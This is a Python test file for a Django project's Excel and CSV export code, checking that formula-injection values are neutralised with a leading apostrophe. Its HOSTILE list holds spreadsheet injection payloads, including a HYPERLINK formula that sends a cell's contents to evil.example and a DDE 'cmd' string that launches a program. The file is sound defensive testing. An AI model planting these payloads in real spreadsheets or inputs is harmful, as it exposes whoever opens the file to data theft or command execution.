"""Issue 13, item 7: text from outside never becomes a live formula in an Excel file we write
(OWASP CSV Injection: a leading apostrophe for = + - @ tab CR) — the normdocs register export,
arrears tables and planner batch results, all through renshe.documents.excel."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest
from django.test import Client

from renshe.documents.excel import safe
from renshe.planner.core import batch
from renshe.platform.accounts.models import Organisation
from renshe.platform.web.tables import Table, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1"]


def _cells(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_inert(cells, texts=HOSTILE) -> None:
    found = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in texts:
        cell = found.get("'" + text)
        assert cell is not None, (text, list(found)[:20])
        assert cell.data_type == "s"
    assert not any(c.data_type == "f" for c in cells)


def test_safe_keeps_ordinary_values():
    assert safe("张三") == "张三" and safe(-5) == -5 and safe(1.5) == 1.5 and safe(None) is None
    assert all(safe(t) == "'" + t for t in HOSTILE)


@pytest.mark.django_db
def test_normdocs_export(demo):
    from renshe.normdocs import service

    division = Organisation.objects.filter(kind=Organisation.Kind.DIVISION).first()
    for title in HOSTILE:
        service.create_draft(demo["staff"], title=title, drafting_division=demo["staff"].organisation or division)
    client = Client()
    client.force_login(demo["legal"])
    r = client.get("/normdocs/export.xlsx")
    assert r.status_code == 200
    _assert_inert(_cells(r.content), HOSTILE[:4])  # the register strips a title's leading tab or CR


def test_arrears_tables():
    t = Table("t", "表", ["项目", "金额"], rows=[[text, 1] for text in HOSTILE], money={1})
    _assert_inert(_cells(xlsx_bytes(t)))


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_planner_batch_results(tmp_path, suffix):
    path = tmp_path / f"out{suffix}"
    batch.write_table(pd.DataFrame({"姓名": HOSTILE, "月收入": range(len(HOSTILE))}), path)
    if suffix == ".xlsx":
        _assert_inert(_cells(path.read_bytes()))
    else:
        names = pd.read_csv(path, dtype=str, keep_default_na=False)["姓名"].tolist()
        assert names[:5] == ["'" + t for t in HOSTILE[:5]]  # (a bare CR splits a CSV row in any reader)
